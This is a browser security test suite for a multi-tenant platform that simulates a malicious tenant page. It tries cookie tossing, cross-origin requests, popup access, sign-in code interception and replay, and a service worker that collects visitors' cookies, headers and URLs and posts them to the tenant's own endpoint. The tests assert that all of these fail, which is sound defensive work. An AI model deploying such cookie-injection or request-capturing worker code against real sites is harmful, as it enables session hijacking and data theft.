// What a tenant's page cannot do to somebody who is signed in: bob's page, in ada's browser. The numbers are of the
// rows of tests/security.md.
import assert from 'node:assert/strict';
import test from 'node:test';

import { eventually } from '../../../browser/chromium.mjs';
import { inPopup, popups, postForm, quiet } from './attacks.mjs';
import { admin, fetched, newPerson, play, signedIn, signIn } from './stage.mjs';

await play(async ({ browser, way, alice, bob }) => {
  const cookieNames = ['', '-app', '-nonce', '-signin'].map((end) => `${way.prefix}matrixos${end}`);
  const cookieOf = async (context, label, end = '') => {
    const found = (await context.cookies(way.url(label, '/'))).find(({ name }) => name === `${way.prefix}matrixos${end}`);
    return found?.value;
  };
  const panels = new WeakMap(); // a tab of each person's for this
  const me = async (context) => {
    if (!panels.has(context)) panels.set(context, await context.newPage());
    const page = panels.get(context);
    await page.goto(way.url('console', '/auth/me'));
    const said = JSON.parse(await page.textContent('body'));
    return { user: said.user?.id, session: said.session?.id };
  };
  // All that an attack could have changed, in the browser and on the server.
  const state = async (context) => ({
    me: await me(context),
    cookies: [await cookieOf(context, 'console'), await cookieOf(context, 'alice', '-app')],
    sessions: (await admin('GET', '/auth/sessions')).map(({ id, userId }) => `${userId} ${id}`).sort(),
    shares: await admin('GET', '/containers/alice/shares'),
  });
  // ada, signed in at her instance, and bob's public page in another tab.
  const scene = async () => {
    bob.pages = { '/about': { body: '<!doctype html><title>evil</title><body></body>' } };
    const ada = await signedIn(browser, 'ada', way.url('alice', '/'));
    const evil = await ada.context.newPage();
    await evil.goto(way.url('bob', '/about'));
    assert.equal(await evil.title(), 'evil');
    const before = await state(ada.context);
    assert.equal(before.me.user, 'ada');
    alice.heard.length = bob.heard.length = 0;
    const unchanged = async (what) => assert.deepEqual(await state(ada.context), before, what);
    return { ...ada, evil, before, unchanged };
  };
  // A browser in which bob is signed in at the provider, and whose next sign-in on the platform's host, or on alice's,
  // stops before the URL that ends it, which nobody has used then.
  const stopped = async (attacker, from, at) => {
    await attacker.context.clearCookies({ name: new RegExp(`^${way.prefix}matrixos`) });
    const tools = await attacker.context.newCDPSession(attacker.page); // stops redirects, too
    await tools.send('Fetch.enable', { patterns: [{ urlPattern: at }] });
    const caught = new Promise((resolve) => tools.on('Fetch.requestPaused', async ({ requestId, request }) => {
      await tools.send('Fetch.failRequest', { requestId, errorReason: 'Aborted' });
      resolve(request.url);
    }));
    await attacker.page.goto(from).then(() => assert.fail('no URL to steal'), () => {});
    await tools.detach();
    return caught;
  };

  await test(`${way.name}: row 4, cookies that a tenant tosses`, async (t) => {
    const attacker = await signedIn(browser, 'bob', way.url('bob', '/'));
    const values = [await cookieOf(attacker.context, 'console'), await cookieOf(attacker.context, 'bob', '-app')];
    const stranger = await newPerson(browser);
    const { context, page, evil, before, unchanged } = await scene();
    const fresh = await stranger.newPage();
    await fresh.goto(way.url('bob', '/about'));
    const tossed = [];
    for (const name of [...cookieNames, ...cookieNames.map((own) => own.replace('__Host-', '')), '__HOST-matrixos', '__host-MATRIXOS-app'])
      for (const value of values)
        for (const path of ['/', '/.matrixos', '/auth', '/.matrixos/auth'])
          for (const spelt of [name, `=${name}`, ` ${name}`, `\u2000${name}`, `"${name}"`])
            tossed.push(`${spelt}=${value}; Domain=${way.domain}; Path=${path}${way.scheme === 'https' ? '; Secure' : ''}`);
    // Some at a time: a browser keeps so many of a site's cookies, and would drop the others.
    for (let at = 0; at < tossed.length; at += 20) {
      for (const tab of [evil, fresh]) await tab.evaluate((all) => all.forEach((one) => { document.cookie = one; }), tossed.slice(at, at + 20));
      assert.equal(await fetched(page, '/data'), 200);
      assert.equal(alice.heard.at(-1).headers['x-matrix-user'], 'ada');
      assert.equal((await me(context)).user, 'ada');
      assert.equal((await me(stranger)).user, undefined);
      for (const tab of [evil, fresh]) await tab.evaluate((all) => all.forEach((one) => { document.cookie = `${one}; Max-Age=0`; }), tossed.slice(at, at + 20));
    }
    // From the instance itself, and into a sign-in.
    const headers = tossed.filter((_, at) => at % 5 === 0);
    for (let at = 0; at < headers.length; at += 20) {
      bob.pages['/about'].headers = { 'set-cookie': headers.slice(at, at + 20) };
      await fresh.goto(way.url('bob', '/about'));
    }
    await signIn(fresh, 'carol', way.url('console', '/auth/login?return=/auth'));
    assert.equal((await me(stranger)).user, 'carol');
    await stranger.close();
    const secrets = before.cookies.concat(values);
    assert.ok(alice.heard.concat(bob.heard).every(({ headers: { cookie = '' } }) => !before.cookies.some((own) => cookie.includes(own))));
    assert.equal(new Set(secrets).size, 4);
    t.diagnostic(`row 4: ${tossed.length + headers.length} variants`);
    await context.close();
    await attacker.context.close();
  });

  await test(`${way.name}: row 6, requests of a tenant's page`, async (t) => {
    const { context, evil, before, unchanged } = await scene();
    const targets = [
      ...['/', '/data', '/api/x'].map((path) => way.url('alice', path)),
      ...['/auth', '/auth/me', '/auth/login?return=/', '/auth/logout', '/auth/clerk', '/auth/sessions', `/auth/sessions/${before.me.session}`,
        `/auth/authorize?host=alice.${way.suffix}&nonce=${'x'.repeat(43)}&return=/`, '/api/containers/alice/shares', '/api/containers', '/api/reload'].map((path) => way.url('console', path)),
      ...['/containers/alice/shares', '/auth/sessions', '/tokens', '/proxy/alice/data'].map((path) => (way.scheme === 'http' ? `http://${way.suffix}${path}` : way.url('api', path))),
    ];
    for (const target of targets) {
      for (const [name, attack] of Object.entries(quiet)) {
        const read = await evil.evaluate(`(${attack})(${JSON.stringify(target)})`);
        assert.doesNotMatch(read, /ada|alice/, `${name} of ${target}`);
      }
      await unchanged(target);
    }
    const posts = targets.filter((target) => !target.includes('/auth/login'));
    for (const target of posts) {
      const [popup] = await Promise.all([context.waitForEvent('page'), evil.evaluate(`(${postForm})(${JSON.stringify(target)})`)]);
      await popup.waitForURL((at) => at.href !== 'about:blank');
      await popup.close();
    }
    await unchanged('forms');
    assert.deepEqual(alice.heard, []);
    // They are no blanks: what everybody may see hears each of them, but WebSockets, and not from whom.
    for (const [name, attack] of Object.entries(quiet)) {
      alice.heard.length = 0;
      await evil.evaluate(`(${attack})(${JSON.stringify(way.url('alice', '/about'))})`);
      assert.equal(alice.heard.length > 0, name !== 'WebSocket', name);
      assert.ok(alice.heard.every(({ headers }) => headers['x-matrix-role'] === 'public' && !headers['x-matrix-user']), name);
    }
    t.diagnostic(`row 6: ${targets.length * Object.keys(quiet).length + posts.length} variants`);
    await context.close();
  });

  await test(`${way.name}: row 6, windows and frames that a tenant opens are closed to it`, async (t) => {
    const { context, evil, unchanged } = await scene();
    let variants = 0;
    for (const target of [way.url('alice', '/'), way.url('console', '/auth'), way.url('console', '/auth/me'), way.url('console', `/auth/login?return=${way.url('alice', '/')}`)]) {
      for (const how of Object.values(popups)) {
        const popup = await inPopup(evil, how, target);
        const read = await evil.evaluate(() => ['document', 'origin', 'localStorage'].flatMap((part) => {
          try { return [String(window.mine[part])]; } catch { return []; }
        }).concat((() => { try { return [window.mine.location.href]; } catch { return []; } })()));
        assert.doesNotMatch(String(read), /alice|console/, target);
        // Nor does it run there what it likes.
        await evil.evaluate(() => { try { window.mine.location = 'javascript:document.title="taken"'; } catch { /* as it should */ } });
        assert.notEqual(await popup.title(), 'taken');
        variants += 5;
        await popup.close();
        await evil.evaluate(() => { window.mine = undefined; });
      }
    }
    await unchanged('windows');
    assert.ok(alice.heard.every(({ method, body, headers }) => method === 'GET' && body === '' && headers['sec-fetch-dest'] === 'document'));
    t.diagnostic(`row 6: ${variants} variants`);
    await context.close();
  });

  await test(`${way.name}: row 44, somebody else's sign-in ends in nobody's browser`, async (t) => {
    const attacker = await signedIn(browser, 'bob', way.url('console', '/auth/login?return=/auth'));
    const share = await admin('POST', '/containers/alice/shares', { user: 'bob' });
    const { context, evil, unchanged } = await scene();
    const stranger = await newPerson(browser);
    const begun = await stranger.newPage(); // has begun a sign-in of its own
    await begun.goto(way.url('console', '/auth/login'));
    const innocent = await stranger.newPage();
    await innocent.goto(way.url('bob', '/about'));
    const steals = [
      () => stopped(attacker, way.url('console', '/auth/login?return=/auth'), `${way.origin('console')}/auth/callback?*`),
      () => stopped(attacker, way.url('alice', '/'), `${way.origin('alice')}/.matrixos/auth?*`),
    ];
    let variants = 0;
    for (const steal of steals) {
      for (const how of Object.values(popups)) {
        for (const tab of [evil, innocent]) {
          const popup = await inPopup(tab, how, await steal());
          await popup.close();
          variants += 1;
        }
      }
      for (const name of ['fetch no-cors', 'iframe', 'img', 'form POST in a frame', 'script', 'XMLHttpRequest']) {
        for (const tab of [evil, innocent]) await tab.evaluate(`(${quiet[name]})(${JSON.stringify(await steal())})`);
        variants += 2;
      }
    }
    assert.equal((await me(stranger)).user, undefined);
    assert.equal(await cookieOf(stranger, 'console'), undefined);
    assert.equal(await cookieOf(stranger, 'alice', '-app'), undefined);
    assert.ok(alice.heard.every(({ headers }) => headers['x-matrix-user'] === 'ada'), 'bob reached nothing in a browser of others');
    // The sessions are ada's and those that bob's own sign-ins at the provider made; ada's is as it was.
    await attacker.context.close();
    assert.equal((await me(context)).user, 'ada');
    await admin('DELETE', `/containers/alice/shares/${share.id}`);
    t.diagnostic(`row 44: ${variants} variants`);
    await stranger.close();
    await context.close();
  });

  await test(`${way.name}: row 44, what ended a sign-in once ends none again`, async (t) => {
    const context = await newPerson(browser);
    const page = await context.newPage();
    const used = [];
    page.on('request', (request) => { if (/\/auth\/callback\?|\/\.matrixos\/auth\?/.test(request.url())) used.push(request.url()); });
    await signIn(page, 'ada', way.url('alice', '/'));
    assert.equal(used.length, 2);
    bob.pages = { '/about': { body: '<!doctype html><title>evil</title><body></body>' } };
    const stranger = await newPerson(browser);
    const before = await state(context);
    let variants = 0;
    for (const whose of [context, stranger]) {
      const evil = await whose.newPage();
      await evil.goto(way.url('bob', '/about'));
      for (const url of used) {
        for (const how of Object.values(popups)) await (await inPopup(evil, how, url)).close();
        for (const attack of Object.values(quiet)) await evil.evaluate(`(${attack})(${JSON.stringify(url)})`);
        variants += Object.keys(popups).length + Object.keys(quiet).length;
      }
      // The state with another code, and the code with another state.
      for (const url of [used[0].replace(/code=[^&]*/, 'code=x'), used[0].replace(/state=[^&]*/, `state=${'x'.repeat(43)}`)]) {
        assert.equal((await evil.goto(url)).status(), 401);
        variants += 1;
      }
    }
    assert.deepEqual(await state(context), before);
    assert.equal((await me(stranger)).user, undefined);
    assert.equal(await cookieOf(stranger, 'alice', '-app'), undefined);
    t.diagnostic(`row 44: ${variants} variants`);
    await stranger.close();
    await context.close();
  });

  await test(`${way.name}: row 51, service workers have nothing of the platform's`, async (t) => {
    const { context, evil, unchanged } = await scene();
    const script = { headers: { 'content-type': 'text/javascript', 'service-worker-allowed': '/' }, body: '' };
    for (const path of ['/.matrixos/sw.js', '/.matrixos/auth', '/.matrixos/waiting', '/.matrixos', '/.matrixos/', '/about/sw.js']) bob.pages[path] = script;
    const share = await admin('POST', '/containers/bob/shares', { user: 'ada' });
    await evil.goto(way.url('bob', '/'));
    bob.heard.length = 0;
    const register = (url, scope) => evil.evaluate(([at, below]) => navigator.serviceWorker.register(at, { scope: below }).then(() => 'registered', () => 'refused'), [url, scope]);
    const ours = ['/.matrixos/sw.js', '/.matrixos/auth', '/.matrixos/auth?code=x', '/.matrixos/waiting', '/.matrixos', '/.matrixos/', '/.matrixos/x/../sw.js', '/x/../.matrixos/sw.js'];
    for (const url of ours) for (const scope of ['/', '/.matrixos/']) assert.equal(await register(url, scope), 'refused', url);
    assert.deepEqual(bob.heard.filter(({ url }) => url.includes('matrixos')), []);
    // Below another path of its own host it sees what its own visitors do, and tells.
    bob.pages['/sw.js'] = {
      ...script,
      body: `const tell = (what) => fetch('/blog/stolen', { method: 'POST', body: what });
        addEventListener('install', () => skipWaiting());
        addEventListener('activate', (event) => event.waitUntil(clients.claim()));
        addEventListener('fetch', (event) => {
          if (event.request.url.includes('/blog/')) return;
          const all = self.cookieStore ? cookieStore.getAll() : Promise.resolve([]);
          event.respondWith(all.then(async (cookies) => {
            await tell(JSON.stringify({ url: event.request.url, headers: [...event.request.headers], referrer: event.request.referrer, cookies }));
            return event.request.url.includes('/.matrixos/') ? new Response('held back') : fetch(event.request);
          }));
        });`,
    };
    for (const scope of ['/', '/.matrixos/']) assert.equal(await register('/sw.js', scope), 'registered');
    await eventually(() => evil.evaluate(() => navigator.serviceWorker.getRegistrations().then((all) => all.every(({ active }) => active?.state === 'activated'))), 'the workers are active');
    await context.clearCookies({ name: `${way.prefix}matrixos-app`, domain: `bob.${way.domain}` });
    await evil.goto(way.url('bob', '/'));
    const stolen = bob.heard.filter(({ url }) => url === '/blog/stolen').map(({ body }) => JSON.parse(body));
    const url = stolen.map((one) => one.url).find((one) => one.includes('/.matrixos/auth?code='));
    assert.ok(url, 'the worker saw no code, and what follows shows nothing');
    const secrets = [await cookieOf(context, 'console'), await cookieOf(context, 'alice', '-app'), await cookieOf(context, 'bob', '-nonce')];
    for (const secret of secrets) assert.ok(secret && !JSON.stringify(bob.heard).includes(secret));
    // The code is good for nobody else, and for no other host.
    const attacker = await newPerson(browser);
    const tab = await attacker.newPage();
    await tab.goto(way.url('bob', '/about'));
    for (const at of [url, url.replace('//bob.', '//alice.'), url.replace('//bob.', '//console.')]) assert.notEqual((await tab.goto(at)).status(), 200);
    assert.equal(await cookieOf(attacker, 'bob', '-app'), undefined);
    assert.equal(await cookieOf(attacker, 'alice', '-app'), undefined);
    await admin('DELETE', `/containers/bob/shares/${share.id}`);
    await unchanged('service workers');
    t.diagnostic(`row 51: ${ours.length * 2 + 5} variants`);
    await attacker.close();
    await context.close();
  });
});
